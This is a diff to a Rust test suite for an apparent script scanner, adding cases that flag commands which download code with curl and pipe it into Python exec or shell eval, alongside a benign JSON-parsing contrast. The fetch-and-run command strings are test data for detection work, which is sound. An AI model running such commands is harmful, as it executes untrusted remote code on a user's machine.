@@ -1693,6 +1693,22 @@ fn scripts_that_pipe_downloaded_or_decoded_code_into_a_shell() {
         "/usr/bin/curl",
         stdin,
     );
+    // Inline programs that evaluate what they read: their standard input is their program.
+    let evaluated = "standard input, evaluated by its inline program";
+    raised(
+        "python-exec-stdin.sh",
+        &format!("curl -s {url}/x.sh | python3 -c 'import sys; exec(sys.stdin.read())'"),
+        download,
+        "/usr/bin/curl",
+        evaluated,
+    );
+    raised(
+        "sh-eval-cat.sh",
+        &format!("curl -s {url}/x.sh | sh -c 'eval \"$(cat)\"'"),
+        download,
+        "/usr/bin/curl",
+        evaluated,
+    );
     raised(
         "b64-file.sh",
         &format!("base64 -d {payload} | sh"),
@@ -1757,6 +1773,10 @@ fn scripts_that_pipe_downloaded_or_decoded_code_into_a_shell() {
         &format!("base64 -d {payload} > {}", dir.path("decoded")),
     );
     quiet("sh-c.sh", "echo hi | sh -c 'cat'");
+    quiet(
+        "python-json.sh",
+        &format!("curl -s {url}/v.json | python3 -c 'import json, sys; json.load(sys.stdin)'"),
+    );
     quiet(
         "pkg.sh",
         &format!(
